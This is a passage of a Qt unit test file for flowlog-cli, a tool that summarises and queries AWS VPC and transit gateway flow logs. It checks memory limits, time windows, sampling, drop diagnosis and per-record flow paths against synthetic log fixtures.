        const Run r = runCliWithMemory(args, QStringLiteral("1M"));
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(sentence), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("in memory; 1.0 MB is available.")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("--force")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("--sample")), qPrintable(r.err));
        QVERIFY(r.out.isEmpty());
    }

    void memoryGuardLetsThrough_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("limit");
        QTest::addColumn<QByteArray>("input");
        const QString log = fixture(QStringLiteral("tgw.log"));
        QTest::newRow("--force") << QStringList{"summary", "--force", log} << "1M" << QByteArray();
        QTest::newRow("enough memory") << QStringList{"summary", log} << "64G" << QByteArray();
        QTest::newRow("garbage limit: the real memory") << QStringList{"summary", log} << "plenty" << QByteArray();
        QTest::newRow("stdin is not estimated") << QStringList{"summary", "-"} << "1M" << readAll(log);
    }
    void memoryGuardLetsThrough()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, limit);
        QFETCH(QByteArray, input);
        const Run r = runCliWithMemory(args, limit, input);
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(QJsonDocument::fromJson(r.out).object().value(QStringLiteral("records")).toInteger(), 5);
    }

    void timeWindow_data()
    {
        QTest::addColumn<QStringList>("window");
        QTest::addColumn<qint64>("records");
        // tgw.log starts: 1795946400 (x2), 1795946460, 1795946520, 1795946580.
        QTest::newRow("from and to") << QStringList{"--from", "1795946460", "--to", "1795946580"} << 2LL;
        QTest::newRow("ISO times") << QStringList{"--from=2026-11-29T10:01:00Z", "--to=2026-11-29 10:03"} << 2LL;
        QTest::newRow("from only") << QStringList{"--from", "1795946520"} << 2LL;
        QTest::newRow("to only") << QStringList{"--to", "1795946401"} << 2LL;
        QTest::newRow("nothing inside") << QStringList{"--from", "1700000000", "--to", "1700000060"} << 0LL;
    }
    void timeWindow()
    {
        QFETCH(QStringList, window);
        QFETCH(qint64, records);
        const Run r = runCli(QStringList{QStringLiteral("summary")} + window + QStringList{fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(QStringLiteral("records")).toInteger(), records);
        QCOMPARE(o.value(QStringLiteral("outside_window")).toInteger(), 5 - records);
        QCOMPARE(o.value(QStringLiteral("sampled_out")).toInteger(), 0);
        QCOMPARE(o.value(QStringLiteral("rejected")).toInteger(), 0);
        QVERIFY2(r.err.contains(QStringLiteral("%1 records were outside the time window").arg(5 - records)), qPrintable(r.err));
        // Only records inside the window reach the other subcommands too.
        const Run q =
            runCli(QStringList{QStringLiteral("query"), QStringLiteral("--sql"), QStringLiteral("SELECT count(*) FROM flows")}
                   + window + QStringList{fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(q.exitCode, 0);
        QCOMPARE(q.out, QByteArray("count(*)\r\n") + QByteArray::number(records) + "\r\n");
    }

    void sample()
    {
        const QString log = fixture(QStringLiteral("tgw.log"));
        const Run all = runCli({QStringLiteral("summary"), QStringLiteral("--sample"), QStringLiteral("1"), log});
        QVERIFY2(all.exitCode == 0, qPrintable(all.err));
        QCOMPARE(QJsonDocument::fromJson(all.out).object().value(QStringLiteral("records")).toInteger(), 5);
        const Run few = runCli({QStringLiteral("summary"), QStringLiteral("--sample=1000"), log});
        QVERIFY2(few.exitCode == 0, qPrintable(few.err));
        const QJsonObject o = QJsonDocument::fromJson(few.out).object();
        const qint64 kept = o.value(QStringLiteral("records")).toInteger();
        QCOMPARE(kept + o.value(QStringLiteral("sampled_out")).toInteger(), 5);
        QVERIFY(kept < 5);
        QVERIFY2(few.err.contains(QLatin1String("left out by --sample")), qPrintable(few.err));
        // Deterministic: the same sample every time.
        const Run again = runCli({QStringLiteral("summary"), QStringLiteral("--sample=1000"), log});
        QCOMPARE(QJsonDocument::fromJson(again.out).object().value(QStringLiteral("records")).toInteger(), kept);
    }

    void windowAndSampleUsageErrors_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        const QString log = fixture(QStringLiteral("tgw.log"));
        QTest::newRow("bad --from") << QStringList{"summary", "--from", "yesterday", log} << "--from needs a time";
        QTest::newRow("bad --to") << QStringList{"summary", "--to=2026-13-01", log} << "--to needs a time";
        QTest::newRow("--from after --to") << QStringList{"summary", "--from", "200", "--to", "100", log}
                                           << "--from must be before --to";
        QTest::newRow("--from equals --to") << QStringList{"summary", "--from", "100", "--to", "100", log}
                                            << "--from must be before --to";
        QTest::newRow("--sample 0") << QStringList{"summary", "--sample", "0", log} << "--sample needs a whole number";
        QTest::newRow("--sample text") << QStringList{"summary", "--sample", "ten", log} << "--sample needs a whole number";
        QTest::newRow("--sample negative") << QStringList{"summary", "--sample=-2", log} << "--sample needs a whole number";
        QTest::newRow("--sample without value") << QStringList{"summary", log, "--sample"} << "--sample needs a value";
    }
    void windowAndSampleUsageErrors()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        const Run r = runCli(args);
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
    }

    void helpMentionsWindowSampleForce()
    {
        const Run r = runCli({QStringLiteral("--help")});
        for (const char* word : {"--from TIME", "--to TIME", "--sample N", "--force", "FLOWLOG_MEMORY_LIMIT"})
            QVERIFY2(r.out.contains(word), word);
    }

    // --- drops (drop diagnosis) ---
    void dropsCsv()
    {
        const QString log = QStringLiteral(FLOWLOG_TEST_DATA "/graph/tgw-both-sides.log");
        const Run r = runCli({QStringLiteral("drops"), log});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QList<QByteArray> lines = r.out.split('\n');
        QCOMPARE(lines.size(), 1 + 3 + 1); // header, MTU A->B, no route at A, blackhole at C, ""
        QCOMPARE(lines[0], QByteArray("entry,exit,reason,packets,records,first_seen,last_seen,top_sources,"
                                      "top_destinations,top_dst_ports,route_table_id,check\r"));
        // The MTU drop is logged at both attachments (the exit side with 0): one record, 7 packets.
        QVERIFY2(lines[1].startsWith("tgw-attach-0aaa00000000000a1,tgw-attach-0bbb00000000000b2,mtu-exceeded,7,1,"
                                     "1764410460,1764410520,10.1.0.12 (7),10.2.0.21 (7),2049 (7),,"),
                 lines[1].constData());
        QVERIFY(lines[2].startsWith("tgw-attach-0aaa00000000000a1,-,no-route,5,1,"));
        QVERIFY(lines[3].startsWith("tgw-attach-0ccc00000000000c3,-,blackhole,4,1,"));

        const Run filtered = runCli({QStringLiteral("drops"), QStringLiteral("--filter"), QStringLiteral("dstport == 80"), log});
        QVERIFY2(filtered.exitCode == 0, qPrintable(filtered.err));
        QCOMPARE(filtered.out.count("\r\n"), 2);
        QVERIFY(filtered.out.contains(",blackhole,4,1,"));

        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("drops.csv"));
        const Run file = runCli({QStringLiteral("drops"), QStringLiteral("-o"), path, log});
        QVERIFY2(file.exitCode == 0, qPrintable(file.err));
        QCOMPARE(readAll(path), r.out);
    }

    void dropsWithNamesAndUsageErrors()
    {
        const QString log = QStringLiteral(FLOWLOG_TEST_DATA "/graph/tgw-both-sides.log");
        const Run bad = runCli({QStringLiteral("drops"), QStringLiteral("--filter"), QStringLiteral("dstport =="), log});
        QCOMPARE(bad.exitCode, 2);
        QVERIFY2(bad.err.contains(QLatin1String("filter error at column")), qPrintable(bad.err));
        const Run by = runCli({QStringLiteral("drops"), QStringLiteral("--by"), QStringLiteral("vpc"), log});
        QCOMPARE(by.exitCode, 2);
        QVERIFY(runCli({QStringLiteral("--help")}).out.contains("flowlog-cli drops"));
        // The demo data set with its describe-* JSON: every reason, route tables and names.
        const Run demo = runCli({QStringLiteral("drops"), QStringLiteral(FLOWLOG_DEMO_DATA)});
        QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
        QVERIFY(demo.out.startsWith("entry,exit,reason,packets,records,first_seen,last_seen,top_sources,"
                                    "top_destinations,top_dst_ports,route_table_id,check,entry_name,exit_name\r\n"));
        for (const char* reason : {",no-route,", ",blackhole,", ",mtu-exceeded,", ",ttl-expired,", ",rejected,"})
            QVERIFY2(demo.out.contains(reason), reason);
        QVERIFY(demo.out.contains(",tgw-rtb-"));
        QVERIFY(demo.out.contains(",prod-app,onprem-vpn\r\n"));
    }

    // flow ID: the path of one record, as text and JSON; bad IDs are usage errors.
    void flowCommand()
    {
        auto tgw = [](const char* att, const char* pair, const char* dir, const char* src, const char* dst, int sport, int dport,
                      int lostNoRoute) {
            return QStringLiteral("6 TransitGateway 111122223333 tgw-0123 %1 - - vpc-a vpc-b - - - - - - %2 %3 %4 %5 %6 6 "
                                  "10 4000 1700000000 1700000060 OK IPv4 %7 0 0 0 19 us-east-1 %8 - -\n")
                .arg(QLatin1String(att), QLatin1String(pair), QLatin1String(src), QLatin1String(dst))
                .arg(sport)
                .arg(dport)
                .arg(lostNoRoute)
                .arg(QLatin1String(dir))
                .toUtf8();
        };
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString log = dir.filePath(QStringLiteral("flow.log"));
        QFile f(log);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(tgw("tgw-attach-aaa", "tgw-attach-bbb", "ingress", "10.0.0.5", "10.1.0.9", 51515, 443, 0)
                + tgw("tgw-attach-bbb", "tgw-attach-aaa", "egress", "10.0.0.5", "10.1.0.9", 51515, 443, 0)
                + tgw("tgw-attach-bbb", "tgw-attach-aaa", "ingress", "10.1.0.9", "10.0.0.5", 443, 51515, 0)
                + tgw("tgw-attach-aaa", "-", "ingress", "10.0.0.5", "10.99.0.1", 40000, 5432, 10));
        f.close();
        const QString names = fixture(QStringLiteral("names-attachments.json"));

        const Run text = runCli({QStringLiteral("flow"), QStringLiteral("2"), QStringLiteral("--names"), names, log});
        QVERIFY2(text.exitCode == 0, qPrintable(text.err));
        const QString t = QString::fromUtf8(text.out);
        QVERIFY2(t.startsWith(QStringLiteral("Flow of record 2: TCP 10.0.0.5:51515 → 10.1.0.9:443\n")), qPrintable(t));
        QVERIFY(t.contains(QLatin1String("entry attachment   VPC A (tgw-attach-aaa)")));
        QVERIFY(t.contains(QLatin1String("ingress record #1: 10 packets, 4000 bytes")));
        QVERIFY(t.contains(QLatin1String("exit attachment    on-prem, VPN (tgw-attach-bbb)")));
        QVERIFY(t.contains(QLatin1String("egress record #2:")));
        QVERIFY(t.contains(QStringLiteral("Reply: TCP 10.1.0.9:443 → 10.0.0.5:51515\n")));
        QVERIFY(t.contains(QLatin1String("ingress record #3:")));

        const Run drop = runCli({QStringLiteral("flow"), QStringLiteral("4"), log});
        QVERIFY2(drop.exitCode == 0, qPrintable(drop.err));
        QVERIFY(drop.out.contains("dropped: 10 packets, No route."));
        QVERIFY(drop.out.contains("the path ends at the transit gateway"));
        QVERIFY(drop.out.contains("Reply: none: no reply record loaded"));

        const Run json = runCli({QStringLiteral("flow"), QStringLiteral("1"), QStringLiteral("--json"), log});
        QVERIFY2(json.exitCode == 0, qPrintable(json.err));
        const QJsonObject root = QJsonDocument::fromJson(json.out).object();
        QCOMPARE(root.value(QStringLiteral("record")).toInteger(), 1);
        const QJsonObject flow = root.value(QStringLiteral("flow")).toObject();
        QCOMPARE(flow.value(QStringLiteral("kind")).toString(), QStringLiteral("tgw"));
        QCOMPARE(flow.value(QStringLiteral("entry")).toObject().value(QStringLiteral("id")).toString(),
                 QStringLiteral("tgw-attach-aaa"));
        QCOMPARE(flow.value(QStringLiteral("egress")).toObject().value(QStringLiteral("id")).toInteger(), 2);
        QCOMPARE(flow.value(QStringLiteral("ends_at_tgw")).toBool(), false);
        QCOMPARE(root.value(QStringLiteral("reply"))
                     .toObject()
                     .value(QStringLiteral("ingress"))
                     .toObject()
                     .value(QStringLiteral("id"))
                     .toInteger(),
                 3);
        const Run dropJson = runCli({QStringLiteral("flow"), QStringLiteral("4"), QStringLiteral("--json"), log});
        const QJsonObject d = QJsonDocument::fromJson(dropJson.out).object();
        QVERIFY(d.value(QStringLiteral("reply")).isNull());
        QVERIFY(d.value(QStringLiteral("reply_note")).toString().contains(QLatin1String("no reply")));
        const QJsonArray drops = d.value(QStringLiteral("flow")).toObject().value(QStringLiteral("drops")).toArray();
        QCOMPARE(drops.size(), 1);
        QCOMPARE(drops.at(0).toObject().value(QStringLiteral("reason")).toString(), QStringLiteral("no-route"));
        QCOMPARE(drops.at(0).toObject().value(QStringLiteral("packets")).toInteger(), 10);

        // Bad IDs: unknown (after loading), not a number, missing.
        const Run unknown = runCli({QStringLiteral("flow"), QStringLiteral("99"), log});
        QCOMPARE(unknown.exitCode, 2);
        QVERIFY2(unknown.err.contains(QLatin1String("no record with id 99 is loaded (ids are 1..4)")), qPrintable(unknown.err));
        const Run notNumber = runCli({QStringLiteral("flow"), QStringLiteral("abc"), log});
        QCOMPARE(notNumber.exitCode, 2);
        QVERIFY(notNumber.err.contains(QLatin1String("positive whole number, got 'abc'")));
        const Run missing = runCli({QStringLiteral("flow"), log}); // the path is not an ID
        QCOMPARE(missing.exitCode, 2);
        QVERIFY(missing.err.contains(QLatin1String("the record ID must be a positive whole number")));
        const Run noId = runCli({QStringLiteral("flow"), QStringLiteral("--json"), log});
        QCOMPARE(noId.exitCode, 2);
        QVERIFY(noId.err.contains(QLatin1String("flow needs a record ID")));
        QVERIFY(runCli({QStringLiteral("--help")}).out.contains("flowlog-cli flow    ID [--json]"));
    }

    // --names with describe-flow-logs: a headerless custom-format file of that flow log loads.
    void namesFlowLogFormat()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString log =
            dir.filePath(QStringLiteral("123456789012_vpcflowlogs_us-east-1_fl-0123456789abcdef0_20251201T0000Z_ab12cd34.log"));
        const QString flowLogs = dir.filePath(QStringLiteral("flowlogs.json"));
        QFile l(log), j(flowLogs);
        QVERIFY(l.open(QIODevice::WriteOnly) && j.open(QIODevice::WriteOnly));
        l.write("ACCEPT 500 10.1.0.9 eni-0abc 10.0.0.5 1700000000 5\n");
        j.write(R"({"FlowLogs": [{"FlowLogId": "fl-0123456789abcdef0", "LogDestination": "arn:aws:s3:::b",
                   "LogFormat": "${action} ${bytes} ${dstaddr} ${interface-id} ${srcaddr} ${start} ${version}"}]})");
        l.close();
        j.close();
        const Run without = runCli({QStringLiteral("summary"), log});
        QCOMPARE(without.exitCode, 3);
        QVERIFY(without.err.contains(QLatin1String("not a recognised flow log")));
        const Run r = runCli({QStringLiteral("summary"), QStringLiteral("--names"), flowLogs, log});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QJsonObject root = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(root.value(QStringLiteral("records")).toInteger(), 1);
        const QJsonObject file = root.value(QStringLiteral("files")).toArray().at(0).toObject();
        QCOMPARE(file.value(QStringLiteral("format")).toString(),
                 QStringLiteral("headerless custom format, 7 fields (LogFormat of fl-0123456789abcdef0)"));
        QVERIFY(file.value(QStringLiteral("format_source"))
                    .toString()
                    .startsWith(QLatin1String("format from describe-flow-logs fl-0123456789abcdef0 (LogFormat ${action}")));
        // An explicit --format wins over the flow log's.
        const Run explicitFormat =
            runCli({QStringLiteral("query"), QStringLiteral("--names"), flowLogs, QStringLiteral("--format"),
                    QStringLiteral("action bytes srcaddr interface-id dstaddr start version"), QStringLiteral("--sql"),
                    QStringLiteral("SELECT srcaddr FROM flows"), log});
        QVERIFY2(explicitFormat.exitCode == 0, qPrintable(explicitFormat.err));
        QCOMPARE(explicitFormat.out, QByteArray("srcaddr\r\n10.1.0.9\r\n"));
    }
};

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
